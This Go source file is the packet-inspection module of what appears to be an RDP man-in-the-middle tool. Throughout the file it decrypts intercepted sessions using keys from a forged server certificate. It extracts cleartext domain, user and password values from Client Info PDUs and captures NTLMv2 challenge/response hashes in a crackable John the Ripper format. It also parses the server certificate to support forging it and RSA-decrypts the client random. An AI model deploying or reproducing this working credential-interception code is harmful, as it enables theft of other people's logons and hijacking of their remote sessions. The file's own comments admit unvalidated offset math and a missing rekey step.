// Package inspect scans decrypted RDP PDUs for the handful of byte-level
// signatures that matter to this tool: the server's Proprietary Certificate,
// the client's encrypted session random, NTLMSSP challenge/authenticate
// messages, and the cleartext Client Info PDU. Each signature is its own
// named predicate, mirroring the "pattern matchers as regex over hex
// strings" approach of the source tool but reimplemented as explicit
// byte-window scans with named offsets, per the redesign note calling the
// regex approach fragile.
//
// Every Find* function is a best-effort parse: on any malformed or
// out-of-range input it returns ok=false rather than panicking or erroring,
// since RDP carries many PDU types this tool has no opinion about.
package inspect

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"unicode/utf16"

	"github.com/rcarmo/rdp-mitm/internal/logging"
	"github.com/rcarmo/rdp-mitm/internal/rc4stream"
	"github.com/rcarmo/rdp-mitm/internal/rdpcrypto"
	"github.com/rcarmo/rdp-mitm/internal/session"
)

// Security header layout constants for the slow path, per MS-RDPBCGR's
// TS_SECURITY_HEADER as read by the PDU inspector.
const (
	offSecurityFlags = 13
	secInfoPkt       = 0x0040
	secEncrypt       = 0x0008
)

// TS_INFO_PACKET layout offsets once the slow-path security header has been
// stripped, relative to the start of the reconstructed PDU.
const (
	offDomainLen   = 31
	offUserLen     = 33
	offPasswordLen = 35
	offCredential  = 37
)

var (
	ntlmChallengeSig    = append([]byte("NTLMSSP\x00"), 0x02, 0x00, 0x00, 0x00)
	ntlmAuthenticateSig = append([]byte("NTLMSSP\x00"), 0x03, 0x00, 0x00, 0x00)
	mcsMarker1          = []byte{0x01, 0x0c}
	mcsMarker2          = []byte{0x03, 0x0c}
	mcsMarker3          = []byte{0x02, 0x0c}
	rsa1Magic           = []byte("RSA1")
)

var errNoForgedKeys = errors.New("inspect: client random seen before forged keys exist")

// Credential is a cleartext logon credential recovered from a Client Info
// PDU.
type Credential struct {
	Domain   string
	User     string
	Password string
}

// String renders the credential in the DOMAIN\USER:PASSWORD form the spec
// requires for stdout findings.
func (c Credential) String() string {
	return fmt.Sprintf(`%s\%s:%s`, c.Domain, c.User, c.Password)
}

// NTLMv2Hash is a captured NTLMv2 challenge/response pair, ready to emit in
// John the Ripper's netntlmv2 format.
type NTLMv2Hash struct {
	User            string
	Domain          string
	ServerChallenge [8]byte
	NTProof         []byte // nt_response[0:16], the HMAC-MD5 proof
	NTResponseTail  []byte // nt_response[16:], the blob the proof covers
}

// String renders the hash as user::domain:server_challenge:proof:blob.
func (h NTLMv2Hash) String() string {
	return fmt.Sprintf("%s::%s:%s:%s:%s",
		h.User, h.Domain,
		hex.EncodeToString(h.ServerChallenge[:]),
		hex.EncodeToString(h.NTProof),
		hex.EncodeToString(h.NTResponseTail),
	)
}

// Findings is everything Inspect noticed about one PDU.
type Findings struct {
	Credential           *Credential
	NTLMv2               *NTLMv2Hash
	ServerCertCaptured   bool
	ClientRandomCaptured bool
}

// Inspect decrypts a copy of pdu if session keys already exist (pdu itself
// is left untouched and the decrypted copy is returned), scans the result
// for every known signature, and folds any server-certificate or
// client-random discovery back into sess. It never returns an error:
// malformed input simply yields fewer findings, per the error-handling
// design's "log and pass through" rule for parse failures.
func Inspect(sess *session.Session, dir session.Direction, pdu []byte) ([]byte, Findings) {
	plaintext := decryptSecurityHeader(sess, dir, pdu)

	var findings Findings

	if cred, ok := FindClientInfo(plaintext); ok {
		findings.Credential = &cred
	}

	if challenge, ok := FindNTLMChallenge(plaintext); ok {
		sess.SetServerChallenge(challenge)
	}

	if challenge := sess.GetServerChallenge(); challenge != nil {
		if hash, ok := FindNTLMAuthenticate(plaintext, *challenge); ok {
			findings.NTLMv2 = &hash
		}
	}

	if ctx, ok := FindServerCertificate(plaintext); ok {
		sess.SetCertContext(ctx)
		findings.ServerCertCaptured = true
	}

	// Precondition from the spec: client-random extraction only makes
	// sense once the forged keys exist (set during certificate
	// replacement), since that's the keypair the client encrypted under.
	if sess.GetForgedKeys() != nil {
		if ciphertext, ok := FindClientSecurityExchange(plaintext); ok {
			if random, err := decryptClientRandom(sess, ciphertext); err == nil {
				sess.SetClientRandom(random, ciphertext)
				_ = sess.DeriveSessionKeys()
				findings.ClientRandomCaptured = true
			}
		}
	}

	return plaintext, findings
}

// decryptSecurityHeader implements step 1 of the PDU inspector: locate the
// per-direction security header, and if its flags mark the payload
// encrypted, RC4-decrypt a copy of the remainder and return a new
// header||plaintext slice with the MAC stripped; pdu is not modified.
//
// Open question (b) from the design notes: the fast-path offset math below
// assumes a specific header layout that should be validated against
// MS-RDPBCGR before being trusted against a live capture; it is implemented
// here as specified, not independently re-derived.
func decryptSecurityHeader(sess *session.Session, dir session.Direction, pdu []byte) []byte {
	if !sess.HasSessionKeys() {
		return pdu
	}

	cipher := sess.RC4Client
	if dir == session.ServerToClient {
		cipher = sess.RC4Server
	}

	rekeyDue := cipher.NeedsRekey()
	var out []byte
	if !IsSlowPathPDU(pdu) {
		out = decryptFastPath(pdu, cipher)
	} else {
		out = decryptSlowPath(pdu, cipher)
	}

	// The key update MS-RDPBCGR requires at this boundary is not
	// implemented; decryption past it will desynchronize if the peers do
	// rekey. Surface it once and keep going.
	if !rekeyDue && cipher.NeedsRekey() {
		logging.Warn("%s: %v", dir, rc4stream.ErrRekeyRequired)
	}
	return out
}

func decryptFastPath(pdu []byte, cipher *rc4stream.Cipher) []byte {
	if len(pdu) < 2 {
		return pdu
	}
	encrypted := pdu[0]&0x80 != 0
	if !encrypted {
		return pdu
	}

	headerLen := 2
	if pdu[1] >= 0x80 {
		headerLen = 3
	}

	ciphertextStart := headerLen + 8
	if ciphertextStart > len(pdu) {
		return pdu
	}

	ciphertext := append([]byte{}, pdu[ciphertextStart:]...)
	plaintext := make([]byte, len(ciphertext))
	cipher.XORKeyStream(plaintext, ciphertext)

	out := make([]byte, 0, headerLen+len(plaintext))
	out = append(out, pdu[:headerLen]...)
	out = append(out, plaintext...)
	return out
}

func decryptSlowPath(pdu []byte, cipher *rc4stream.Cipher) []byte {
	offset := offSecurityFlags
	if len(pdu) <= offset+1 {
		return pdu
	}
	if pdu[offset] >= 0x80 {
		offset++
	}
	if len(pdu) < offset+2 {
		return pdu
	}
	flags := binary.LittleEndian.Uint16(pdu[offset : offset+2])
	if flags&secEncrypt == 0 {
		return pdu
	}

	ciphertextStart := offset + 12
	if ciphertextStart > len(pdu) {
		return pdu
	}

	ciphertext := append([]byte{}, pdu[ciphertextStart:]...)
	plaintext := make([]byte, len(ciphertext))
	cipher.XORKeyStream(plaintext, ciphertext)

	out := make([]byte, 0, offset+2+len(plaintext))
	out = append(out, pdu[:offset+2]...)
	out = append(out, plaintext...)
	return out
}

// IsSlowPathPDU reports whether pdu carries the TPKT slow-path marker.
func IsSlowPathPDU(pdu []byte) bool {
	return len(pdu) >= 2 && pdu[0] == 0x03 && pdu[1] == 0x00
}

// FindClientInfo recognizes a Client Info PDU by its security header
// carrying the SEC_INFO_PKT flag, then decodes the three declared
// UTF-16LE credential fields starting at offCredential.
func FindClientInfo(pdu []byte) (Credential, bool) {
	if len(pdu) < offSecurityFlags+2 {
		return Credential{}, false
	}
	flags := binary.LittleEndian.Uint16(pdu[offSecurityFlags : offSecurityFlags+2])
	if flags&secInfoPkt == 0 {
		return Credential{}, false
	}
	if len(pdu) < offCredential {
		return Credential{}, false
	}

	domLen := int(binary.LittleEndian.Uint16(pdu[offDomainLen : offDomainLen+2]))
	userLen := int(binary.LittleEndian.Uint16(pdu[offUserLen : offUserLen+2]))
	pwLen := int(binary.LittleEndian.Uint16(pdu[offPasswordLen : offPasswordLen+2]))

	// Boundary behavior: declared lengths that would run off the end of
	// the packet emit an empty result rather than panicking.
	need := offCredential + domLen + 2 + userLen + 2 + pwLen + 2
	if need > len(pdu) {
		return Credential{}, false
	}

	pos := offCredential
	domain := decodeUTF16LE(pdu[pos : pos+domLen])
	pos += domLen + 2
	user := decodeUTF16LE(pdu[pos : pos+userLen])
	pos += userLen + 2
	password := decodeUTF16LE(pdu[pos : pos+pwLen])

	return Credential{Domain: domain, User: user, Password: password}, true
}

func decodeUTF16LE(b []byte) string {
	if len(b)%2 != 0 {
		b = b[:len(b)-1]
	}
	u16 := make([]uint16, len(b)/2)
	for i := range u16 {
		u16[i] = binary.LittleEndian.Uint16(b[i*2 : i*2+2])
	}
	return string(utf16.Decode(u16))
}

// FindNTLMChallenge locates an NTLMSSP Type 2 (Challenge) message and
// extracts the 8-byte server challenge that follows it.
func FindNTLMChallenge(pdu []byte) ([8]byte, bool) {
	idx := bytes.Index(pdu, ntlmChallengeSig)
	if idx < 0 {
		return [8]byte{}, false
	}
	start := idx + len(ntlmChallengeSig) + 12
	if start+8 > len(pdu) {
		return [8]byte{}, false
	}
	var challenge [8]byte
	copy(challenge[:], pdu[start:start+8])
	return challenge, true
}

type ntlmField struct {
	length int
	offset int
}

func parseNTLMField(b []byte) ntlmField {
	length := int(binary.LittleEndian.Uint16(b[0:2]))
	offset := int(binary.LittleEndian.Uint32(b[4:8]))
	return ntlmField{length: length, offset: offset}
}

// FindNTLMAuthenticate locates an NTLMSSP Type 3 (Authenticate) message and
// extracts the NTLMv2 challenge/response in netntlmv2 format.
func FindNTLMAuthenticate(pdu []byte, serverChallenge [8]byte) (NTLMv2Hash, bool) {
	idx := bytes.Index(pdu, ntlmAuthenticateSig)
	if idx < 0 {
		return NTLMv2Hash{}, false
	}

	fieldsStart := idx + len(ntlmAuthenticateSig)
	const fieldBlockLen = 6 * 8
	if fieldsStart+fieldBlockLen > len(pdu) {
		return NTLMv2Hash{}, false
	}

	origin := idx - 12
	if origin < 0 {
		return NTLMv2Hash{}, false
	}

	fields := make([]ntlmField, 6)
	for i := 0; i < 6; i++ {
		fields[i] = parseNTLMField(pdu[fieldsStart+i*8 : fieldsStart+i*8+8])
	}
	ntField := fields[1]
	domainField := fields[2]
	userField := fields[3]

	ntResponse, ok := sliceField(pdu, origin, ntField)
	if !ok || len(ntResponse) < 16 {
		return NTLMv2Hash{}, false
	}
	domainBytes, ok := sliceField(pdu, origin, domainField)
	if !ok {
		return NTLMv2Hash{}, false
	}
	userBytes, ok := sliceField(pdu, origin, userField)
	if !ok {
		return NTLMv2Hash{}, false
	}

	return NTLMv2Hash{
		User:            decodeUTF16LE(userBytes),
		Domain:          decodeUTF16LE(domainBytes),
		ServerChallenge: serverChallenge,
		NTProof:         append([]byte{}, ntResponse[:16]...),
		NTResponseTail:  append([]byte{}, ntResponse[16:]...),
	}, true
}

func sliceField(pdu []byte, origin int, f ntlmField) ([]byte, bool) {
	start := origin + f.offset
	end := start + f.length
	if start < 0 || end > len(pdu) || end < start {
		return nil, false
	}
	return pdu[start:end], true
}

// FindClientSecurityExchange locates the encrypted client random by its
// heuristic shape: a 0x01 byte (the SEC_EXCHANGE_PKT flag) past the framing
// header, an 8-byte zero pad closing the PDU, and somewhere before the
// ciphertext a 4-byte little-endian length field that accounts for exactly
// the bytes remaining after it. The returned ciphertext includes the zero
// pad; in little-endian those are high-order zero bytes and do not change
// the RSA plaintext.
func FindClientSecurityExchange(pdu []byte) ([]byte, bool) {
	if len(pdu) < 21 {
		return nil, false
	}
	if !allZero(pdu[len(pdu)-8:]) {
		return nil, false
	}
	if bytes.IndexByte(pdu[7:len(pdu)-8], 0x01) < 0 {
		return nil, false
	}
	for off := 0; off+4 < len(pdu); off++ {
		declared := int(binary.LittleEndian.Uint32(pdu[off : off+4]))
		if declared > 8 && declared == len(pdu)-off-4 {
			return pdu[off+4:], true
		}
	}
	return nil, false
}

func allZero(b []byte) bool {
	for _, c := range b {
		if c != 0 {
			return false
		}
	}
	return true
}

// FindServerCertificate locates the Server Security Data's Proprietary
// Certificate by the 010c/030c/020c MCS marker sequence, then parses every
// field the certificate forger needs.
func FindServerCertificate(pdu []byte) (*session.CertContext, bool) {
	i1 := bytes.Index(pdu, mcsMarker1)
	if i1 < 0 {
		return nil, false
	}
	i2 := indexFrom(pdu, mcsMarker2, i1+2)
	if i2 < 0 {
		return nil, false
	}
	i3 := indexFrom(pdu, mcsMarker3, i2+2)
	if i3 < 0 {
		return nil, false
	}

	// Server Security Data after the 020c marker: header size (2),
	// encryptionMethod (4), encryptionLevel (4), serverRandomLen (4),
	// serverCertLen (4), then the random and the certificate.
	secDataStart := i3 + 2
	if secDataStart+18 > len(pdu) {
		return nil, false
	}
	serverRandomLen := int(binary.LittleEndian.Uint32(pdu[secDataStart+10 : secDataStart+14]))
	serverCertLen := int(binary.LittleEndian.Uint32(pdu[secDataStart+14 : secDataStart+18]))
	serverRandomStart := secDataStart + 18
	if serverRandomLen != 32 || serverRandomStart+serverRandomLen > len(pdu) {
		return nil, false
	}
	var serverRandom [32]byte
	copy(serverRandom[:], pdu[serverRandomStart:serverRandomStart+serverRandomLen])

	certStart := serverRandomStart + serverRandomLen
	if certStart+serverCertLen > len(pdu) {
		return nil, false
	}
	if certStart+16 > len(pdu) {
		return nil, false
	}
	magicIdx := bytes.Index(pdu[certStart:], rsa1Magic)
	if magicIdx != 16 {
		return nil, false
	}
	firstFiveFields := append([]byte{}, pdu[certStart:certStart+16]...)

	idx := certStart + 16
	if idx+20 > len(pdu) {
		return nil, false
	}
	keyLen := binary.LittleEndian.Uint32(pdu[idx+4 : idx+8])
	dataLen := binary.LittleEndian.Uint32(pdu[idx+12 : idx+16])
	pubExp := binary.LittleEndian.Uint32(pdu[idx+16 : idx+20])

	modStart := idx + 20
	modEnd := modStart + int(keyLen)
	if modEnd > len(pdu) {
		return nil, false
	}
	modulus := append([]byte{}, pdu[modStart:modEnd]...)
	pubkeyBlob := append([]byte{}, pdu[idx:modEnd]...)

	sigHeaderStart := modEnd
	if sigHeaderStart+4 > len(pdu) {
		return nil, false
	}
	sigLen := int(binary.LittleEndian.Uint16(pdu[sigHeaderStart+2 : sigHeaderStart+4]))
	sigStart := sigHeaderStart + 4
	if sigStart+sigLen > len(pdu) {
		return nil, false
	}
	signature := append([]byte{}, pdu[sigStart:sigStart+sigLen]...)

	if !bytes.Equal(pdu[idx:idx+4], rsa1Magic) {
		return nil, false
	}

	return &session.CertContext{
		Modulus:            modulus,
		PubExponent:        pubExp,
		ServerRandom:       serverRandom,
		OriginalSignature:  signature,
		OriginalPubkeyBlob: pubkeyBlob,
		FirstFiveFields:    firstFiveFields,
		DataLen:            dataLen,
	}, true
}

func indexFrom(haystack, needle []byte, from int) int {
	if from > len(haystack) {
		return -1
	}
	idx := bytes.Index(haystack[from:], needle)
	if idx < 0 {
		return -1
	}
	return idx + from
}

// decryptClientRandom RSA-decrypts the ciphertext a Client Security
// Exchange carried, using this session's forged private key, stripping the
// 8-byte zero-pad tail the wire format appends.
func decryptClientRandom(sess *session.Session, ciphertext []byte) ([32]byte, error) {
	fk := sess.GetForgedKeys()
	if fk == nil {
		return [32]byte{}, errNoForgedKeys
	}
	core := ciphertext
	if len(core) >= 8 {
		core = core[:len(core)-8]
	}
	plain := rdpcrypto.Decrypt(core, fk.Modulus, fk.PrivateExponent)

	var random [32]byte
	fixed := rdpcrypto.IntToLEBytes(32, rdpcrypto.LEBytesToInt(plain))
	copy(random[:], fixed)
	return random, nil
}
